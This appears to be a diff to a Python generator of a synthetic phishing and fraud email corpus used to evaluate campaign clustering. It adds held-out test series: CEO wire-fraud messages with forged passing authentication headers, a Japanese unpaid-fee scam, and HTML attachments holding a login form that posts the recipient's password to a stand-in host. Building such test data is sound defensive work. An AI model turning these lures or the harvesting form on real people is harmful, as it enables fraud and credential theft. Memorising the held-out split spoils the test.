@@ -72,6 +72,16 @@ SERIES = {
                   "domains, one path shape carrying the recipient's address, password-expiry / "
                   "quota subjects in Japanese and English, 2020-06 .. 2021-02",
 }
+HOLDOUT_SERIES = {
+    "holdout-cloud-ceo": "held out: CEO fraud of another actor, <cloud word>-<greek letter> on "
+                         "<cloud><route word> domains (.io/.biz/.org) through a Mailgun-like "
+                         "service, 'Confidential transaction <Greek>-<n>' in English and Japanese, "
+                         "2020-02 .. 2020-11",
+    "holdout-xyz-scam": "held out: mass Japanese unpaid-fee scam, support@<random>.xyz|.top, five "
+                        "decorated subjects, one body template with a phone number, five weeks of 2020",
+    "holdout-html-attach": "held out: phishing by HTML attachment Payment_Advice_<n>.html whose "
+                           "form posts to one host per wave, rotating senders, 2020-08 and 2021-01",
+}
 
 
 # ------------------------------------------------------------------------------ organisations
@@ -820,6 +830,145 @@ def cred_phish(g: Gen) -> None:
             g.add("cred-phish", mg.message(headers, mg.text_part(html, "UTF-8", "quoted-printable", subtype="html")))
 
 
+# ------------------------------------------------------------------------------ held-out series
+# Built on the same principles as the series above with vocabularies, services and lures of their
+# own. Tune the clustering looking at the series above only ("tune" in truth.json "split"); these
+# ("test") tell whether it generalises, like the test half of the corpora.
+
+CLOUD_WORDS = ["cloud", "vault", "azure", "nimbus", "stratus", "cirrus", "sky", "edge"]
+GREEK = ["alpha", "beta", "gamma", "delta", "sigma", "omega", "kappa", "lambda", "theta", "zeta"]
+ROUTE_WORDS = ["routing", "dispatch", "relayhub", "mailflow", "postbox", "courier", "exchange"]
+
+
+def holdout_cfo(g: Gen) -> None:
+    """CEO fraud of another actor: <cloud word>-<greek letter> local parts on <cloud><route>
+    domains (.io/.biz/.org), through Mailgun, subjects 'Confidential transaction <Greek>-<n>' and
+    their Japanese form, the CEO asking for an urgent transfer for a supplier settlement."""
+    start, end = dt.datetime(2020, 2, 3, tzinfo=UTC), dt.datetime(2020, 11, 27, tzinfo=UTC)
+    days = sorted(g.date_between(start, end) for _ in range(14))
+    for day in days:
+        dom = f"{g.rng.choice(CLOUD_WORDS)}{g.rng.choice(ROUTE_WORDS)}{g.rng.choice(['', '-secure', '-mx'])}." \
+              + g.rng.choice(["io", "biz", "org"])
+        local = f"{g.rng.choice(CLOUD_WORDS)}-{g.rng.choice(GREEK)}"
+        org = g.rng.choice(ORGS)
+        ref = f"{g.rng.choice(GREEK).capitalize()}-{g.rng.randrange(10, 99)}"
+        ja = org.lang == "ja" and g.rng.random() < 0.6
+        subject = (g.rng.choice([f"極秘：{ref}案件のお振込について", f"【至急】{ref}案件の件"]) if ja else
+                   g.rng.choice([f"Confidential transaction {ref}", f"Urgent: settlement {ref}",
+                                 f"Re: {ref} supplier settlement"]))
+        for p in g.rng.sample(org.staff, g.rng.choice([1, 2])):
+            sent = g.working_hours(day, JST if org.lang == "ja" else UTC).astimezone(UTC)
+            rcpt = org.addr(p)
+            if ja:
+                text = pick_paraphrase(g, [
+                    "{sur}さん", "",
+                    ["海外の取引先との和解金の支払いを本日中に行う必要があります。",
+                     "極秘で進めている海外取引先との精算を本日中に完了させたいと考えています。"],
+                    "案件番号は{ref}です。正式な発表までは社内でも口外しないでください。",
+                    ["送金の手続きについて指示しますので、このメールに返信してください。",
+                     "対応できるか、すぐにこのメールに返信してください。"], "", "{ceo}"],
+                    sur=surname_ja(p), ref=ref, ceo=ja_name(org.ceo).replace(" ", ""))
+            else:
+                text = pick_paraphrase(g, [
+                    ["{first},", "Hi {first},"], "",
+                    ["We need to settle a payment with an overseas supplier today.",
+                     "I need a settlement with one of our foreign suppliers completed today."],
+                    "The file reference is {ref}; keep it confidential until it is announced.",
+                    ["Reply to this email and I will send you the wire instructions.",
+                     "Let me know right away by email if you can process it."], "", "{ceo}"],
+                    first=p.first, ref=ref, ceo=org.ceo.en)
+            ip = f"198.19.40.{g.rng.randrange(2, 200)}"  # the mail service's pool
+            helo = f"m{g.rng.randrange(10, 99)}-{g.rng.randrange(100, 250)}.mailgun.example"
+            hops, _ = delivery(g, org, rcpt, helo, helo, ip, sent)
+            headers = [f"Return-Path: <bounce+{g.token(6, '0123456789abcdef')}.{rcpt.replace('@', '=')}@mg.{dom}>",
+                       *hops,
+                       mg.auth_results(f"mx.{org.domain}", spf="pass", mailfrom=f"mg.{dom}", dkim="pass",
+                                       dkim_d=dom, dmarc="pass", header_from=dom, ip=ip),
+                       mg.dkim_signature(dom, "mx"),
+                       "From: " + mg.mailbox(ja_name(org.ceo) if ja else org.ceo.en, f"{local}@{dom}"),
+                       "To: " + rcpt, subject_header(subject), f"Date: {fmt(sent)}",
+                       msgid(g, dom), f"X-Mailgun-Sid: {g.token(40)}"]
+            g.add("holdout-cloud-ceo", mg.message(headers, mg.text_part(text, "UTF-8", "base64")))
+
+
+XYZ_SUBJECTS = [("【重要】未払い料金のお知らせ", 22), ("≪最終通告≫ 有料動画サイトご利用料金について", 31),
+                ("■ご利用料金の確認のお願い■", 12), ("[再送] 未払い料金のお知らせ", 9),
+                ("※法的手続きの開始について※", 6)]
+
+
+def holdout_xyz_scam(g: Gen) -> None:
+    """Mass Japanese 'unpaid fee' scam: support@<random consonant-vowel name>.xyz|.top, five
+    subjects with decorations, one body template with a phone number, five weeks."""
+    start = dt.datetime(2020, 4, 6, tzinfo=JST)
+    subjects = [s for s, n in XYZ_SUBJECTS for _ in range(n)]
+    g.rng.shuffle(subjects)
+    people = [(o, p) for o in ORGS if o.lang == "ja" for p in o.staff]
+    dom, uses = None, 99
+    for subject in subjects:
+        if uses >= g.rng.choice([3, 5, 8]):
+            dom = "".join(g.rng.choice("bdgkmnprstz") + g.rng.choice("aeiou") for _ in range(g.rng.randrange(3, 5))) \
+                  + g.rng.choice([".xyz", ".top"])
+            uses = 0
+        uses += 1
+        sent = (start + dt.timedelta(days=g.rng.randrange(0, 35), hours=g.rng.randrange(24),
+                                     minutes=g.rng.randrange(60), seconds=g.rng.randrange(60))).astimezone(UTC)
+        org, p = g.rng.choice(people)
+        rcpt = org.addr(p)
+        text = pick_paraphrase(g, [
+            "お客様各位", "",
+            ["ご利用中の有料動画サイトの料金が未納となっております。", "有料動画サイトのご利用料金のお支払いが確認できておりません。"],
+            ["本日中にご連絡がない場合、法的手続きに移行いたします。", "期日までにご連絡がない場合、法的措置を取らせていただきます。"],
+            "お問い合わせ：03-{a}-{b}（担当：{who}）", "", "料金管理センター"],
+            a=g.rng.randrange(1000, 9999), b=g.rng.randrange(1000, 9999),
+            who=g.rng.choice(["佐藤", "鈴木", "高橋"]))
+        ip = f"198.19.{g.rng.choice([60, 61])}.{g.rng.randrange(2, 250)}"
+        hops, _ = delivery(g, org, rcpt, dom, f"vps{g.rng.randrange(100, 999)}.cheap-vps.example", ip, sent, tls=False)
+        headers = [f"Return-Path: <support@{dom}>", *hops,
+                   mg.auth_results(f"mx.{org.domain}", spf="none", mailfrom=dom, dmarc="none", header_from=dom, ip=ip),
+                   "From: " + mg.mailbox("料金管理センター", f"support@{dom}", charset="ISO-2022-JP"),
+                   "To: " + rcpt, subject_header(subject, "ISO-2022-JP"), f"Date: {fmt(sent.astimezone(JST))}",
+                   msgid(g, dom)]
+        g.add("holdout-xyz-scam", mg.message(headers, mg.text_part(text, "ISO-2022-JP", "7bit")))
+
+
+def holdout_html_attach(g: Gen) -> None:
+    """Phishing by HTML attachment: Payment_Advice_<n>.html holding a login form that posts to
+    /<token>/next.php on one host of a dynamic-DNS-looking domain per wave; senders rotate."""
+    waves = [(dt.datetime(2020, 8, 3, tzinfo=UTC), "payportal.dyn-host.example"),
+             (dt.datetime(2021, 1, 11, tzinfo=UTC), "remit-view.dyn-host.example")]
+    for wave_start, host in waves:
+        for _ in range(16):
+            org = g.rng.choice(ORGS)
+            p = g.rng.choice(org.staff)
+            rcpt = org.addr(p)
+            sent = g.working_hours(wave_start + dt.timedelta(days=g.rng.randrange(0, 10)), UTC)
+            n = g.rng.randrange(100000, 999999)
+            form = (f"<html><head><title>Payment Advice</title></head><body><h3>View remittance {n}</h3>"
+                    f"<form method=\"post\" action=\"https://{host}/{g.token(10, string.ascii_lowercase)}/next.php\">"
+                    f"<input name=\"email\" value=\"{rcpt}\"><input name=\"pass\" type=\"password\">"
+                    "<button>View document</button></form></body></html>\n").encode()
+            text = pick_paraphrase(g, [
+                ["Hello,", "Dear customer,", "Good morning,"], "",
+                ["Please find attached the payment advice for your invoice.",
+                 "Attached is the remittance advice of today's transfer."],
+                "Open the attachment and sign in with your email to view it.", "", "Accounts Payable"])
+            sdom = f"{g.rng.choice(JP_SMB)}.{g.rng.choice(['com', 'net'])}"
+            sender = f"{g.rng.choice(['payments', 'ap', 'accounts', 'finance'])}@{sdom}"
+            ip = f"198.19.{g.rng.randrange(150, 160)}.{g.rng.randrange(2, 250)}"
+            hops, _ = delivery(g, org, rcpt, f"mail.{sdom}", f"mail.{sdom}", ip, sent)
+            body = mg.multipart("mixed", g.token(30, "0123456789abcdef"), [
+                mg.text_part(text, "us-ascii", "7bit"),
+                mg.attachment(form, "text/html", f"Payment_Advice_{n}.html")])
+            headers = [f"Return-Path: <{sender}>", *hops,
+                       mg.auth_results(f"mx.{org.domain}", spf="pass", mailfrom=sdom, dmarc="none",
+                                       header_from=sdom, ip=ip),
+                       "From: " + mg.mailbox("Accounts Payable", sender), "To: " + rcpt,
+                       subject_header(g.rng.choice([f"Payment Advice {n}", "Remittance advice",
+                                                    f"Payment confirmation #{n}"])),
+                       f"Date: {fmt(sent)}", msgid(g, sdom)]
+            g.add("holdout-html-attach", mg.message(headers, body))
+
+
 # ------------------------------------------------------------------------------ singletons
 
 def singletons(g: Gen) -> dict[str, str]:
@@ -928,7 +1077,11 @@ def generate(out: Path, seed: int = DEFAULT_SEED, noise_dir: Path | None = None,
     malware_seikyusho(g)
     malware_docm(g)
     cred_phish(g)
+    holdout_cfo(g)
+    holdout_xyz_scam(g)
+    holdout_html_attach(g)
     series = dict(SERIES)
+    series.update(HOLDOUT_SERIES)
     series.update(singletons(g))
     g.rng.shuffle(g.mails)
     mails = out / "mails"
@@ -951,7 +1104,8 @@ def generate(out: Path, seed: int = DEFAULT_SEED, noise_dir: Path | None = None,
             files[f"noise/{src.name}"] = None
         noise.update(source=str(noise_dir), count=len(sample))
     (out / "registry.toml").write_text(registry_toml(), encoding="utf-8")
-    truth = {"seed": seed, "series": series, "noise": noise, "files": files}
+    split = {sid: "test" if sid in HOLDOUT_SERIES else "tune" for sid in series}
+    truth = {"seed": seed, "series": series, "split": split, "noise": noise, "files": files}
     (out / "truth.json").write_text(json.dumps(truth, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
     return truth
 
